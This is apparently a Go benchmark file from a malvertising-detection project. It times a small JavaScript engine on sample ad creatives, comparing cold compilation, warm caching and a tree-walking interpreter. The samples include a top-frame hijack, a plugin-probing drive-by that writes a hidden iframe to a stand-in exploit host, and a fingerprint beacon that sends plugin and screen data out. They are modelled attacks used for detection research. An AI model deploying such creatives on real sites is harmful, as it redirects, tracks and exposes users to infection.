package madave

// BenchmarkMinijsCompiled* measure the script engine on the adserver's
// creative shapes, each run by a fresh interpreter. Cold pays
// hash+parse+compile on every script (first sight), which is what the
// browser pays per ad: creatives embed per-impression IDs, so no script
// source repeats. Warm is the steady state a content-hash code cache gives
// when sources do repeat, where only VM execution remains; TreeWalk is the
// seed engine — Interp.Run re-parses the source and walks the AST on every
// execution. TestEmitBenchPipeline gates Warm strictly faster than
// TreeWalk — the point of the compiler pipeline.

import (
	"context"
	"testing"

	"madave/internal/minijs"
)

// benchMinijsStubs recreates the browser bindings the creatives touch, so
// the scripts below run in a bare interpreter the way they do in the
// honeyclient's instrumented DOM.
const benchMinijsStubs = `
var document = { write: function(s) { return s.length; } };
var navigator = { plugins: [
	{ name: "Shockwave Flash", version: 10 },
	{ name: "Java", version: 7 },
	{ name: "QuickTime", version: 7 } ] };
navigator.plugins.length = 3;
var screen = { width: 1024, height: 768 };
var top = {}; var window = {};
`

// benchMinijsScripts are the adserver's creative shapes verbatim: a classic
// document.write banner, a §2.3 top-frame hijack, a §2.1 plugin-probing
// drive-by, and a fingerprint-beacon model-only creative.
var benchMinijsScripts = []string{
	benchMinijsStubs + `
var land = "http://www.clicks-net.com/offer?c=cmp-00042&imp=deadbeef";
document.write('<a href="' + land + '"><img src="http://cdn-ads.com/banners/b1_cmp-00042.png?imp=deadbeef" width="300" height="250"></a>');`,

	benchMinijsStubs + `
document.write('<img src="http://cdn-ads.com/banners/b0_cmp-00107.png?imp=beefcafe" width="300" height="250">');
top.location = "http://lp-prizes.com/win?imp=beefcafe";`,

	benchMinijsStubs + `
document.write('<img src="http://cdn-ads.com/banners/b2_cmp-00311.png?imp=feedface" width="728" height="90">');
var found = false;
var ps = navigator.plugins;
for (var i = 0; i < ps.length; i++) {
	if (ps[i].name == "Shockwave Flash" && ps[i].version < 11) { found = true; }
	if (ps[i].name == "Java" && ps[i].version < 8) { found = true; }
}
if (found) {
	document.write('<iframe src="http://exploit-host.com/exploit?imp=feedface" width="1" height="1"></iframe>');
}`,

	benchMinijsStubs + `
var fp = "";
var ps = navigator.plugins;
for (var i = 0; i < ps.length; i++) { fp += ps[i].name + ":" + ps[i].version + ";"; }
fp += screen.width + "x" + screen.height;
document.write('<img src="http://stat1-00555.com/px.gif?d=' + escape(fp) + '" width="1" height="1">');
document.write('<img src="http://stat2-00555.com/px.gif?imp=cafebabe" width="1" height="1">');
document.write('<img src="http://stat3-00555.com/px.gif?r=' + Math.floor(Math.random() * 100000) + '" width="1" height="1">');
document.write('<img src="http://cdn-ads.com/banners/b3_cmp-00555.png?imp=cafebabe" width="300" height="250">');`,
}

// benchMinijsCompiledRun replays every creative once through cc and a fresh
// interpreter — the honeyclient's per-frame pattern on the compiled path.
func benchMinijsCompiledRun(b *testing.B, cc *minijs.CodeCache) {
	b.Helper()
	for _, src := range benchMinijsScripts {
		prog, _, err := cc.Load(context.Background(), src, true)
		if err != nil {
			b.Fatal(err)
		}
		if _, err := minijs.New().RunProgram(prog); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkMinijsCompiledCold pays the full hash+parse+compile on every
// script: a fresh code cache per iteration means nothing is ever warm.
func BenchmarkMinijsCompiledCold(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		benchMinijsCompiledRun(b, minijs.NewCodeCache(0, nil))
	}
}

// BenchmarkMinijsCompiledWarm is the steady state: one shared cache, every
// Load a hit, each iteration hash lookup plus bytecode execution.
func BenchmarkMinijsCompiledWarm(b *testing.B) {
	cc := minijs.NewCodeCache(0, nil)
	benchMinijsCompiledRun(b, cc)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		benchMinijsCompiledRun(b, cc)
	}
}

// BenchmarkMinijsTreeWalk replays the identical creatives on the seed
// engine: parse the source and tree-walk the AST on every execution, with
// no code cache anywhere — each impression pays the whole pipeline again.
func BenchmarkMinijsTreeWalk(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		for _, src := range benchMinijsScripts {
			if _, err := minijs.NewReference().Run(src); err != nil {
				b.Fatal(err)
			}
		}
	}
}
